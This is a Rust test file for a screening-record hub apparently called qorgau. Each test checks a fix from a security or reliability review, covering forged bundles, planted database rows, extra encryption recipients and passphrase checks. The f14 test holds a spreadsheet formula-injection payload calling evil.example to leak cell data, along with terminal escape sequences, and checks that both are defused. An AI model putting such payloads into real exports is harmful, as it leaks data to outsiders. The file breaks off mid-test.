//! Trust under attack and faults (issue 13): each test pins one finding of
//! the security review (F…) or the reliability review (P…) and failed
//! before its fix. Most run through the library with fresh keys (no scrypt);
//! a few through the binary, as a worker or coordinator would.
// Test code: a failed unwrap is a failed test, which is the point.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::collections::HashMap;
use std::fs;
use std::time::{Duration, Instant};

use common::env::Env;
use common::one_device::{lab, Lab, NOW};
use qorgau::crypto::mac::RowKey;
use qorgau::crypto::seal::Payload;
use qorgau::crypto::{HubCard, HubSealed, Role, SecretKeys};
use qorgau::ids::RecordQuery;
use qorgau::record::{Record, RecordMeta};
use qorgau::sync::{
    import_bundle, BundleHeader, BundleRecord, BundleWriter, FactsSink, FactsWorker, ImportError,
    ImportOptions, ImportReport, NoFacts,
};
use qorgau::time::Timestamp;
use sha2::Digest;

fn now() -> Timestamp {
    NOW.parse().unwrap()
}

impl Lab {
    /// A synthetic record of this lab's device.
    fn record(&self, seed: u64) -> Record {
        let protocol = &self.catalog.find("school-safety@1.0.0").unwrap().protocol;
        let mut rng = qorgau::synth::Rng::new(seed);
        qorgau::synth::synthetic_record(
            protocol,
            &self.setup,
            &mut rng,
            "2026-11-01T10:00:00Z".parse().unwrap(),
        )
        .unwrap()
        .0
    }

    fn seal(&self, record: &Record) -> Vec<u8> {
        HubSealed::seal(record, &self.setup.hub.recipients)
            .unwrap()
            .ciphertext()
            .to_vec()
    }

    fn bundle(&self, records: &[(RecordMeta, Vec<u8>)]) -> Vec<u8> {
        signed_bundle(&self.device, &self.setup.hub, records)
    }

    fn import(&mut self, bytes: &[u8]) -> Result<ImportReport, ImportError> {
        self.import_with(bytes, &NoFacts)
    }

    fn import_with(
        &mut self,
        bytes: &[u8],
        facts: &dyn FactsSink,
    ) -> Result<ImportReport, ImportError> {
        let mut options = ImportOptions::new(NOW.parse().unwrap());
        options.workers = 2;
        import_bundle(&mut self.store, &self.hub, &bytes, &options, facts)
    }
}

fn signed_bundle(device: &SecretKeys, hub: &HubCard, records: &[(RecordMeta, Vec<u8>)]) -> Vec<u8> {
    let header = BundleHeader::new(
        device.id.clone().parse().unwrap(),
        hub.hub_id.clone(),
        NOW.parse().unwrap(),
        records
            .iter()
            .map(|(meta, sealed)| BundleRecord {
                record_id: meta.record_id.clone(),
                protocol_id: meta.protocol_id.clone(),
                protocol_version: meta.protocol_version.clone(),
                finished_at: meta.finished_at,
                sha256: format!("{:x}", sha2::Sha256::digest(sealed)),
            })
            .collect(),
        None,
    );
    let mut writer =
        BundleWriter::new(Vec::new(), &hub.recipients, &header, &device.signing).unwrap();
    for (_, sealed) in records {
        writer.write_record(sealed).unwrap();
    }
    writer.finish().unwrap()
}

#[test]
fn f3_an_erased_record_never_comes_back_with_an_old_bundle() {
    let mut lab = lab();
    let records: Vec<Record> = (0..3).map(|i| lab.record(i)).collect();
    let sealed: Vec<_> = records.iter().map(|r| (r.meta(), lab.seal(r))).collect();
    let bundle = lab.bundle(&sealed);
    assert_eq!(lab.import(&bundle).unwrap().accepted.len(), 3);
    let found = qorgau::hub::find_record(
        &lab.store,
        &lab.hub,
        &RecordQuery::Id(records[0].record_id.clone()),
    )
    .unwrap();
    assert!(qorgau::hub::erase(&mut lab.store, &lab.hub, &found).unwrap());
    assert_eq!(lab.store.record_count().unwrap(), 2);
    // The same old bundle again: the erased record is skipped and counted.
    let report = lab.import(&bundle).unwrap();
    assert!(report.accepted.is_empty(), "{report:?}");
    assert_eq!(report.erased, vec![records[0].record_id.clone()]);
    assert_eq!(report.already_held.len(), 2);
    assert_eq!(lab.store.record_count().unwrap(), 2);
    // The receipt still lets the device forget it.
    let receipt = qorgau::sync::Receipt::for_import(&report, &lab.hub.id, NOW.parse().unwrap());
    assert!(receipt.already_held.contains(&records[0].record_id));
    // The tombstone is a keyed tag: no record id in the hub's database.
    let bytes = fs::read(lab.store.path()).unwrap();
    assert!(!bytes
        .windows(records[0].record_id.len())
        .any(|w| w == records[0].record_id.as_bytes()));
}

#[test]
fn f4_colliding_case_codes_are_lengthened_and_lookups_refuse_to_guess() {
    let mut lab = lab();
    let mut first = lab.record(1);
    let mut second = lab.record(2);
    first.case_code = "WJC-XMZ".parse().unwrap();
    second.case_code = "WJC-XMZ".parse().unwrap();
    for record in [&first, &second] {
        let bundle = lab.bundle(&[(record.meta(), lab.seal(record))]);
        lab.import(&bundle).unwrap();
    }
    let error =
        qorgau::hub::find_record(&lab.store, &lab.hub, &"wjc-xmz".parse().unwrap()).unwrap_err();
    let qorgau::hub::HubError::Ambiguous { candidates, .. } = &error else {
        panic!("{error}");
    };
    assert_eq!(candidates.len(), 2);
    assert!(
        error.to_string().contains(first.record_id.as_str()),
        "{error}"
    );
    assert!(
        error.to_string().contains(second.record_id.as_str()),
        "{error}"
    );
    // The second one got a longer code; it finds exactly that record.
    let longer = candidates
        .iter()
        .find(|c| c.record_id == second.record_id)
        .unwrap()
        .shown_code
        .clone();
    assert!(
        longer.starts_with("WJC-XMZ-") && longer.len() > 8,
        "{longer}"
    );
    let found = qorgau::hub::find_record(&lab.store, &lab.hub, &longer.parse().unwrap()).unwrap();
    assert_eq!(found.record.record_id, second.record_id);
    assert_eq!(found.shown_code, longer);
}

#[test]
fn f6_forged_device_and_record_rows_are_refused_and_never_shown() {
    let mut lab = lab();
    let record = lab.record(3);
    let bundle = lab.bundle(&[(record.meta(), lab.seal(&record))]);
    lab.import(&bundle).unwrap();
    // Someone with write access to hub.db, but no passphrase, plants a record
    // sealed to the hub's public key as if from the enrolled device.
    let mut planted = lab.record(4);
    planted.case_code = "FAK-E22".parse().unwrap();
    let sealed = lab.seal(&planted);
    lab.store
        .connection()
        .execute(
            "INSERT INTO records (device_id, record_id, protocol_id, protocol_version, finished_at,
                 imported_at, bundle_id, sealed, sealed_sha256, flags)
             VALUES (?1, ?2, 'school-safety', '1.0.0', ?3, ?3, ?6, ?4, ?5, 0)",
            rusqlite::params![
                planted.device_id,
                planted.record_id,
                planted.finished_at,
                sealed,
                format!("{:x}", sha2::Sha256::digest(&sealed)),
                "a".repeat(64)
            ],
        )
        .unwrap();
    let (shown, skipped) = qorgau::hub::open_records(&lab.store, &lab.hub).unwrap();
    assert_eq!(shown.len(), 1);
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0].record_id, planted.record_id);
    assert!(qorgau::hub::find_record(
        &lab.store,
        &lab.hub,
        &RecordQuery::Id(planted.record_id.clone())
    )
    .is_err());
    // And re-trusts a revoked device by clearing its revocation.
    lab.store
        .revoke(&lab.setup.card.device_id, now(), &RowKey::derive(&lab.hub))
        .unwrap();
    lab.store
        .connection()
        .execute("UPDATE devices SET revoked_at = NULL", [])
        .unwrap();
    let another = lab.record(5);
    let bundle = lab.bundle(&[(another.meta(), lab.seal(&another))]);
    let error = lab.import(&bundle).unwrap_err();
    assert!(matches!(error, ImportError::DeviceRowChanged(_)), "{error}");
}

#[test]
fn f12_a_record_whose_head_and_body_disagree_is_refused_at_import() {
    let mut lab = lab();
    let honest = lab.record(6);
    let lying = lab.record(7);
    // The head claims "no concern" whatever the body says.
    let mut head = serde_json::to_value(lying.head()).unwrap();
    head["band"] = serde_json::json!(if lying.outcome.band == qorgau::engine::Band::NoConcern {
        "clear_concern"
    } else {
        "no_concern"
    });
    let mut plaintext = serde_json::to_vec(&head).unwrap();
    plaintext.push(b'\n');
    plaintext.extend(serde_json::to_vec(&lying).unwrap());
    assert!(Record::from_plaintext(&plaintext).is_err());
    let forged = age::encrypt(&lab.setup.hub.recipients[0], &plaintext).unwrap();
    let bundle = lab.bundle(&[(honest.meta(), lab.seal(&honest)), (lying.meta(), forged)]);
    let report = lab.import(&bundle).unwrap();
    assert_eq!(report.accepted, vec![honest.record_id.clone()]);
    assert_eq!(report.rejected.len(), 1);
    assert!(report.rejected[0].reason.contains("disagree"), "{report:?}");
    let (shown, skipped) = qorgau::hub::open_records(&lab.store, &lab.hub).unwrap();
    assert_eq!((shown.len(), skipped.len()), (1, 0));
}

/// An unreadable record is rejected as unreadable, whatever text its bad
/// value holds: the import used to look for "head does not match" in the
/// reader's message, so a value with those words passed for an F12 mismatch.
#[test]
fn f12_an_unreadable_record_is_not_taken_for_a_head_that_disagrees() {
    let mut lab = lab();
    let record = lab.record(9);
    let mut head = serde_json::to_value(record.head()).unwrap();
    head["band"] = serde_json::json!("the head does not match the record");
    let mut plaintext = serde_json::to_vec(&head).unwrap();
    plaintext.push(b'\n');
    plaintext.extend(serde_json::to_vec(&record).unwrap());
    let forged = age::encrypt(&lab.setup.hub.recipients[0], &plaintext).unwrap();
    let bundle = lab.bundle(&[(record.meta(), forged)]);
    let report = lab.import(&bundle).unwrap();
    assert!(report.accepted.is_empty(), "{report:?}");
    let reason = &report.rejected[0].reason;
    assert!(reason.contains("its content cannot be read"), "{reason}");
    assert!(!reason.contains("disagree"), "{reason}");
}

#[test]
fn f1_f10_a_record_sealed_to_an_extra_recipient_is_flagged_at_the_hub() {
    let mut lab = lab();
    let record = lab.record(8);
    let attacker = age::x25519::Identity::generate();
    let mut recipients = lab.setup.hub.recipients.clone();
    recipients.push(attacker.to_public());
    let sealed = HubSealed::seal(&record, &recipients).unwrap();
    let bundle = lab.bundle(&[(record.meta(), sealed.ciphertext().to_vec())]);
    let report = lab.import(&bundle).unwrap();
    assert_eq!(report.extra_recipients, vec![record.record_id.clone()]);
    let (shown, _) = qorgau::hub::open_records(&lab.store, &lab.hub).unwrap();
    assert_ne!(
        shown[0].row.flags & qorgau::store::hub::flags::EXTRA_RECIPIENTS,
        0
    );
}

#[test]
fn f13_a_forged_bundle_is_refused_before_any_record_is_read() {
    let mut lab = lab();
    // Anyone can build a bundle from the public hub card and a device id.
    let forger = SecretKeys::generate(Role::Device, lab.device.id.clone(), NOW.parse().unwrap());
    let record = lab.record(9);
    let sealed = lab.seal(&record);
    let records: Vec<_> = (0..3000)
        .map(|_| {
            let mut meta = record.meta();
            meta.record_id = qorgau::ids::RecordId::new();
            (meta, sealed.clone())
        })
        .collect();
    let forged = signed_bundle(&forger, &lab.setup.hub, &records);
    let started = Instant::now();
    let error = lab.import(&forged).unwrap_err();
    let refused = started.elapsed();
    assert!(matches!(error, ImportError::BadSignature), "{error}");
    assert_eq!(lab.store.record_count().unwrap(), 0);
    // The same bundle, genuinely signed, is imported: every record opened
    // and stored. Refusing the forgery must cost a small part of that (the
    // header only), however busy the machine is.
    let genuine = signed_bundle(&lab.device, &lab.setup.hub, &records);
    let started = Instant::now();
    lab.import(&genuine).unwrap();
    let imported = started.elapsed();
    assert!(
        refused * 5 < imported,
        "refusing took {refused:?}, importing {imported:?}"
    );
}

/// A facts sink whose worker panics on the second record it sees.
struct PanickingFacts;
struct PanickingWorker(usize);

impl FactsSink for PanickingFacts {
    fn worker(&self) -> Box<dyn FactsWorker> {
        Box::new(PanickingWorker(0))
    }
}

impl FactsWorker for PanickingWorker {
    fn add(&mut self, _: usize, _: &qorgau::record::view::HeadView<'_>) {
        self.0 += 1;
        if self.0 == 2 {
            panic!("a worker fails");
        }
    }
    fn finish(
        self: Box<Self>,
        _: &dyn Fn(usize) -> bool,
        _: &HashMap<usize, String>,
    ) -> Result<Option<(usize, Vec<u8>)>, String> {
        Ok(None)
    }
}

#[test]
fn a_worker_that_panics_fails_the_whole_bundle() {
    let mut lab = lab();
    let records: Vec<_> = (0..200)
        .map(|i| {
            let r = lab.record(100 + i);
            (r.meta(), lab.seal(&r))
        })
        .collect();
    let bundle = lab.bundle(&records);
    let error = lab.import_with(&bundle, &PanickingFacts).unwrap_err();
    assert!(matches!(error, ImportError::Internal(_)), "{error}");
    assert_eq!(lab.store.record_count().unwrap(), 0, "nothing stored");
    assert_eq!(lab.store.bundles().unwrap().len(), 0);
    // The same bundle with a sound sink imports whole.
    assert_eq!(lab.import(&bundle).unwrap().accepted.len(), 200);
}

/// A facts sink that counts the workers the import starts and the records
/// they check, and whose workers may fail when asked for their segment.
#[derive(Default)]
struct CountingFacts {
    workers: std::sync::atomic::AtomicUsize,
    records: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    fail: bool,
}
struct CountingWorker {
    records: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    fail: bool,
}

impl FactsSink for CountingFacts {
    fn worker(&self) -> Box<dyn FactsWorker> {
        self.workers
            .fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Box::new(CountingWorker {
            records: self.records.clone(),
            fail: self.fail,
        })
    }
}

impl FactsWorker for CountingWorker {
    fn add(&mut self, _: usize, _: &qorgau::record::view::HeadView<'_>) {
        self.records
            .fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    }
    fn finish(
        self: Box<Self>,
        _: &dyn Fn(usize) -> bool,
        _: &HashMap<usize, String>,
    ) -> Result<Option<(usize, Vec<u8>)>, String> {
        if self.fail {
            Err("the segment could not be sealed".into())
        } else {
            Ok(None)
        }
    }
}

#[test]
fn the_import_pool_has_as_many_workers_as_asked_whatever_the_bundle_size() {
    let mut lab = lab();
    let records: Vec<_> = (0..300)
        .map(|i| {
            let r = lab.record(400 + i);
            (r.meta(), lab.seal(&r))
        })
        .collect();
    let bundle = lab.bundle(&records);
    let facts = CountingFacts::default();
    let mut options = ImportOptions::new(NOW.parse().unwrap());
    options.workers = 3;
    let report = import_bundle(&mut lab.store, &lab.hub, &&bundle[..], &options, &facts).unwrap();
    assert_eq!(report.accepted.len(), 300);
    assert_eq!(facts.workers.load(std::sync::atomic::Ordering::SeqCst), 3);
    assert_eq!(facts.records.load(std::sync::atomic::Ordering::SeqCst), 300);
    // No worker at all is not an option: one is started.
    let facts = CountingFacts::default();
    options.workers = 0;
    let report = import_bundle(&mut lab.store, &lab.hub, &&bundle[..], &options, &facts).unwrap();
    assert_eq!(report.already_held.len(), 300);
    assert_eq!(facts.workers.load(std::sync::atomic::Ordering::SeqCst), 1);
}

#[test]
fn a_worker_that_fails_fails_the_whole_bundle() {
    let mut lab = lab();
    let records: Vec<_> = (0..100)
        .map(|i| {
            let r = lab.record(700 + i);
            (r.meta(), lab.seal(&r))
        })
        .collect();
    let bundle = lab.bundle(&records);
    let failing = CountingFacts {
        fail: true,
        ..CountingFacts::default()
    };
    let error = lab.import_with(&bundle, &failing).unwrap_err();
    assert!(matches!(error, ImportError::Facts(_)), "{error}");
    assert_eq!(lab.store.record_count().unwrap(), 0, "nothing stored");
    assert_eq!(lab.store.bundles().unwrap().len(), 0);
    assert_eq!(lab.import(&bundle).unwrap().accepted.len(), 100);
}

#[test]
fn f2_the_deidentified_csv_fails_closed_for_unknown_protocol_versions() {
    let mut lab = lab();
    let mut record = lab.record(10);
    // A newer version of the protocol, which this hub does not have; both
    // records may be passed on, so both are rows of a de-identified file.
    record.protocol.version = "1.0.1".into();
    record.consent = qorgau::record::Consent::Police;
    record.answers.insert(
        "notes".into(),
        qorgau::record::StoredAnswer::Text("ZEBRAWORD123 Aigerim N.".into()),
    );
    let mut known = lab.record(11);
    known.consent = qorgau::record::Consent::SocialServices;
    let bundle = lab.bundle(&[
        (record.meta(), lab.seal(&record)),
        (known.meta(), lab.seal(&known)),
    ]);
    assert_eq!(lab.import(&bundle).unwrap().accepted.len(), 2);
    let (records, _) = qorgau::hub::open_records(&lab.store, &lab.hub).unwrap();
    // k = 1: this test is about free text, not about small groups.
    let options = qorgau::hub::CsvOptions::deidentified(1, "kz", 1);
    let csv = qorgau::hub::csv_export(&records, &lab.catalog, &options).unwrap();
    let text = String::from_utf8(csv.bytes).unwrap();
    assert!(!text.contains("ZEBRAWORD123"), "{text}");
    assert_eq!(csv.unknown_protocol, 1);
    assert!(matches!(
        qorgau::hub::csv_export(
            &records,
            &lab.catalog,
            &qorgau::hub::CsvOptions {
                include_free_text: true,
                ..options
            }
        ),
        Err(qorgau::hub::HubError::FreeTextNotDeidentified)
    ));
}

#[test]
fn f14_device_strings_are_defused_for_spreadsheets_and_terminals() {
    let mut lab = lab();
    let mut record = lab.record(12);
    record.region = Some("=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")".into());
    let bundle = lab.bundle(&[(record.meta(), lab.seal(&record))]);
    lab.import(&bundle).unwrap();
    let (records, _) = qorgau::hub::open_records(&lab.store, &lab.hub).unwrap();
    let csv = qorgau::hub::csv_export(
        &records,
        &lab.catalog,
        &qorgau::hub::CsvOptions::identified(false),
    )
    .unwrap();
    let text = String::from_utf8(csv.bytes).unwrap();
    assert!(text.contains("'=HYPERLINK"), "{text}");
    assert!(
        !text.contains(",=HYPERLINK") && !text.contains(",\"=HYPERLINK"),
        "{text}"
    );
    assert_eq!(
        qorgau::text::printable("notes\u{1b}]0;TITLE\u{7}\u{1b}[2J"),
        "notes]0;TITLE[2J"
    );
}

#[test]
fn p5_a_draft_open_in_one_window_cannot_be_resumed_in_another() {
    let temp = tempfile::tempdir().unwrap();
    let lab = lab();
    let protocol = &lab.catalog.find("school-safety@1.0.0").unwrap().protocol;
    let mut store = qorgau::store::Store::open(&temp.path().join("q.db")).unwrap();
    let screening = qorgau::screening::Screening::start(
        &mut store,
        &lab.setup,
        protocol,
        qorgau::Lang::En,
        NOW.parse().unwrap(),
    )
    .unwrap();
    let id = screening.draft_id().to_owned();
    let second =
        qorgau::screening::Screening::resume(&store, &lab.setup, &lab.device, &lab.catalog, &id);
    let error = second.unwrap_err();
    assert!(
        error.to_string().contains("open in another window"),
        "{error}"
    );
    drop(screening);
    assert!(qorgau::screening::Screening::resume(
        &store,
        &lab.setup,
        &lab.device,
        &lab.catalog,
        &id
    )
    .is_ok());
}

#[test]
fn p7_two_first_commands_at_once_both_open_the_new_store() {
    for _ in 0..5 {
        let temp = tempfile::tempdir().unwrap();
        let path = temp.path().join("q.db");
        let handles: Vec<_> = (0..4)
            .map(|_| {
                let path = path.clone();
                std::thread::spawn(move || qorgau::store::Store::open(&path).map(|_| ()))
            })
            .collect();
        for handle in handles {
            handle.join().unwrap().unwrap();
        }
        let store = qorgau::store::Store::open(&path).unwrap();
        let page: i64 = store
            .connection()
            .query_row("PRAGMA page_size", [], |r| r.get(0))
            .unwrap();
        assert_eq!(page, 8192);
    }
}

#[test]
fn p4_a_huge_text_answer_is_refused_with_a_reason() {
    let lab = lab();
    let protocol = &lab.catalog.find("school-safety@1.0.0").unwrap().protocol;
    let (_, notes) = protocol.question_by_id("notes").unwrap();
    let long = "A".repeat(qorgau::engine::answer::MAX_TEXT_CHARS + 1);
    let error =
        qorgau::engine::answer::validate_answer(notes, qorgau::engine::AnswerInput::Text(long))
            .unwrap_err();
    assert!(error.to_string().contains("at most 4000"), "{error}");
    let fits = "A".repeat(qorgau::engine::answer::MAX_TEXT_CHARS);
    assert!(qorgau::engine::answer::validate_answer(
        notes,
        qorgau::engine::AnswerInput::Text(fits)
    )
    .is_ok());
}

// Through the binary.

const ANSWERS: &str = "[answers]\nrole = \"teacher\"\n";

#[test]
fn f1_a_swapped_coordinator_card_is_refused_before_a_screening_seals_anything() {
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let card = env.device_dir().join("trusted-hub.toml");
    let text = fs::read_to_string(&card).unwrap();
    let attacker = age::x25519::Identity::generate().to_public().to_string();
    let extended = text.replace(
        "age_recipients = [\"",
        &format!("age_recipients = [\"{attacker}\", \""),
    );
    assert_ne!(extended, text);
    fs::write(&card, extended).unwrap();
    // No passphrase: screening checks the cards against the lock file.
    let output = env
        .command(&["screen", "school-safety@1.0.0", "--answers", &answers])
        .env_remove("QORGAU_PASSPHRASE_FILE")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let message = String::from_utf8_lossy(&output.stderr);
    assert!(
        message.contains("trusted-hub.toml is missing or was changed"),
        "{message}"
    );
    assert!(
        message.contains("may have been read by someone else: 1"),
        "{message}"
    );
    assert_eq!(
        env.store().records().unwrap().len(),
        1,
        "nothing new was sealed"
    );
}

#[test]
fn f5_export_lists_what_it_signs_and_asks_first() {
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let bundle = env.path("b.qgb");
    let message = env.fails(&["export", "--out", &bundle]);
    assert!(message.contains("--yes"), "{message}");
    assert!(!std::path::Path::new(&bundle).exists());
    let out = env.ok(&["export", "--yes", "--out", &bundle]);
    assert!(out.contains("About to sign 1 records"), "{out}");
    assert!(out.contains("school-safety@1.0.0: 1"), "{out}");
}

#[test]
fn f6_enroll_and_revoke_need_the_hub_passphrase() {
    let env = Env::new();
    let card = env.path("device/device-card.toml");
    let output = env
        .command(&["--data-dir", &env.path("hub"), "hub", "enroll", &card])
        .env_remove("QORGAU_PASSPHRASE_FILE")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stderr).contains("passphrase"));
    let out = env.ok(&[
        "--data-dir",
        &env.path("hub"),
        "--passphrase-file",
        &env.path("hub-pass"),
        "hub",
        "enroll",
        &card,
    ]);
    assert!(out.contains("Device fingerprint: "), "{out}");
}

#[test]
fn f7_weak_or_exposed_passphrases_are_refused_and_a_passphrase_can_be_changed() {
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let weak = env.root.join("weak");
    common::env::write_secret(&weak, "1234567890\n");
    let output = env
        .command(&["--data-dir", &env.path("hub2"), "hub", "init"])
        .env("QORGAU_PASSPHRASE_FILE", &weak)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stderr).contains("easy to guess"));
    // A passphrase file others can read is refused with advice.
    let open = env.root.join("open");
    fs::write(&open, common::env::DEVICE_PASSPHRASE).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&open, fs::Permissions::from_mode(0o644)).unwrap();
        let output = env
            .command(&["records"])
            .env("QORGAU_PASSPHRASE_FILE", &open)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(1));
        assert!(String::from_utf8_lossy(&output.stderr).contains("chmod 600"));
    }
    // Change it: the old one stops working, the new one opens the keys.
    let new = env.root.join("new");
    common::env::write_secret(&new, "granite meadow lantern oyster fjord\n");
    let out = env.ok(&[
        "passphrase",
        "change",
        "--new-passphrase-file",
        &new.display().to_string(),
    ]);
    assert!(out.contains("passphrase is changed"), "{out}");
    let message = env.fails(&["records"]);
    assert!(message.contains("passphrase is wrong"), "{message}");
    let output = env
        .command(&["records"])
        .env("QORGAU_PASSPHRASE_FILE", &new)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn p15_p16_a_killed_export_leaves_nothing_that_the_next_one_does_not_remove() {
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let stick = env.root.join("stick");
    fs::create_dir(&stick).unwrap();
    // What a killed export leaves: an unlocked hidden partial file.
    fs::write(
        stick.join(".week.qgb.99999.qorgau-partial"),
        b"half a bundle",
    )
    .unwrap();
    let message = env.fails(&["export", "--yes", "--out", &stick.display().to_string()]);
    assert!(message.contains("is a folder"), "{message}");
    env.ok(&[
        "export",
        "--yes",
        "--out",
        &stick.join("week.qgb").display().to_string(),
    ]);
    let left: Vec<_> = fs::read_dir(&stick)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, vec!["week.qgb".to_owned()]);
}

#[test]
fn p13_reports_count_days_in_the_devices_local_time() {
    // An Almaty screening at 01:30 local time on 1 December is 20:30 UTC on
    // 30 November: it belongs to December.
    let mut lab = lab();
    let mut record = lab.record(13);
    record.finished_at = "2026-11-30T20:30:00Z".parse().unwrap();
    record.utc_offset_minutes = Some(300);
    assert_eq!(record.head().local_date(), "2026-12-01");
    let facts = qorgau::report::cache::FactsCache::new(vec![lab.hub.recipient()]);
    let bundle = lab.bundle(&[(record.meta(), lab.seal(&record))]);
    lab.import_with(&bundle, &facts).unwrap();
    let segments =
        qorgau::report::cache::open_all(&lab.store.fact_segments().unwrap(), &lab.hub.openers())
            .unwrap();
    let facts = segments[0].1.to_facts();
    assert_eq!(facts[0].date, "2026-12-01");
    // Without an offset (older records), UTC as before.
    record.utc_offset_minutes = None;
    assert_eq!(record.head().local_date(), "2026-11-30");
}

/// `hub records --since/--until` count the same local days as reports: the
/// 01:30 Almaty screening of 1 December is listed under 1 December, not
/// under 30 November (it was the other way round: the filter read UTC days).
#[test]
fn p13_hub_records_filter_by_the_devices_local_day() {
    let mut lab = lab();
    let mut record = lab.record(16);
    record.finished_at = "2026-11-30T20:30:00Z".parse().unwrap();
    record.utc_offset_minutes = Some(300);
    let bundle = lab.bundle(&[(record.meta(), lab.seal(&record))]);
    lab.import(&bundle).unwrap();
    let listed = |day: &str| {
        let filter = qorgau::hub::RecordFilter {
            since: Some(day.parse().unwrap()),
            until: Some(day.parse().unwrap()),
            ..Default::default()
        };
        let (records, skipped) =
            qorgau::hub::filtered_records(&lab.store, &lab.hub, &filter).unwrap();
        assert!(skipped.is_empty());
        records.len()
    };
    assert_eq!(listed("2026-12-01"), 1);
    assert_eq!(listed("2026-11-30"), 0);
    assert_eq!(listed("2026-12-02"), 0);
}

#[test]
fn p13_an_implausible_date_is_flagged_and_an_invalid_one_refused() {
    let mut lab = lab();
    let mut old = lab.record(14);
    old.finished_at = "1970-01-01T00:00:00Z".parse().unwrap();
    let fine = lab.record(15);
    let bundle = lab.bundle(&[(old.meta(), lab.seal(&old)), (fine.meta(), lab.seal(&fine))]);
    let report = lab.import(&bundle).unwrap();
    assert_eq!(report.implausible_dates, vec![old.record_id.clone()]);
    assert_eq!(report.accepted.len(), 2);
    // A time that is not a date at all cannot be a record's time: a bundle
    // that says so is refused whole (tests/ids.rs,
    // `a_malformed_time_in_a_bundle_is_refused_with_one_message`).
    assert!("+10000-01-01T00:00:00Z".parse::<Timestamp>().is_err());
}

fn hub_keys(env: &Env) -> SecretKeys {
    qorgau::setup::unlock(
        &qorgau::datadir::DataDir::resolve(Some(env.root.join("hub"))).unwrap(),
        Role::Hub,
        &qorgau::crypto::Passphrase::new(common::env::HUB_PASSPHRASE),
    )
    .unwrap()
}

#[test]
fn p13_acknowledged_records_are_dated_by_the_hubs_clock() {
    // A device clock set to 2001 at ack made purge remove summaries at once.
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let store = env.store();
    let pending = store.pending().unwrap();
    drop(store);
    let device_id = qorgau::setup::load_device(
        &qorgau::datadir::DataDir::resolve(Some(env.device_dir())).unwrap(),
    )
    .unwrap()
    .card
    .device_id;
    let keys = hub_keys(&env);
    let receipt = qorgau::sync::Receipt {
        receipt_version: 1,
        bundle_id: "b".repeat(64).parse().unwrap(),
        hub_id: keys.id.clone(),
        device_id,
        created_at: "2026-01-02T03:04:05Z".parse().unwrap(),
        accepted: vec![pending[0].record_id.clone()],
        already_held: Vec::new(),
        rejected: Vec::new(),
    };
    let path = env.root.join("r.receipt");
    fs::write(&path, receipt.to_signed_toml(&keys)).unwrap();
    env.ok(&["ack", &path.display().to_string()]);
    let row = env.store().record(&pending[0].record_id).unwrap();
    assert_eq!(
        row.synced_at.map(|at| at.to_string()).as_deref(),
        Some("2026-01-02T03:04:05Z")
    );
}

#[cfg(target_os = "linux")]
#[test]
fn p3_a_full_device_disk_still_lists_and_exports_and_says_it_is_full() {
    let mount = tempfile::tempdir().unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=4m", "tmpfs"])
        .arg(mount.path())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("cannot mount a tmpfs here (needs root): the full-disk test is skipped");
        return;
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _guard = Unmount(mount.path().to_owned());
    let env = Env::new();
    let device = mount.path().join("dev");
    let run = |args: &[&str]| {
        let mut all = vec!["--data-dir", device.to_str().unwrap()];
        all.extend_from_slice(args);
        env.command(&all).output().unwrap()
    };
    let init = run(&["init", "--hub", &env.path("hub/hub-card.toml")]);
    assert!(
        init.status.success(),
        "{}",
        String::from_utf8_lossy(&init.stderr)
    );
    let answers = env.answers("a.toml", ANSWERS);
    assert!(
        run(&["screen", "school-safety@1.0.0", "--answers", &answers])
            .status
            .success()
    );
    // Fill the disk to the last byte.
    {
        use std::io::Write;
        let mut filler = fs::File::create(mount.path().join("filler")).unwrap();
        let block = vec![0u8; 4096];
        while filler.write_all(&block).is_ok() {}
        let mut small = fs::File::create(mount.path().join("filler2")).unwrap();
        while small.write_all(&[0u8; 64]).is_ok() {}
    }
    let records = run(&["records", "--format", "json"]);
    assert!(
        records.status.success(),
        "{}",
        String::from_utf8_lossy(&records.stderr)
    );
    let listed: serde_json::Value = serde_json::from_slice(&records.stdout).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 1);
    let bundle = env.root.join("elsewhere.qgb");
    let export = run(&["export", "--yes", "--out", bundle.to_str().unwrap()]);
    assert!(
        export.status.success(),
        "{}",
        String::from_utf8_lossy(&export.stderr)
    );
    assert!(bundle.exists());
    let screen = run(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    assert_eq!(screen.status.code(), Some(1));
    let message = String::from_utf8_lossy(&screen.stderr);
    assert!(message.contains("is full"), "{message}");
}

#[test]
fn f14_p14_escape_sequences_from_a_device_never_reach_the_hubs_terminal() {
    let env = Env::new();
    let answers = env.answers(
        "a.toml",
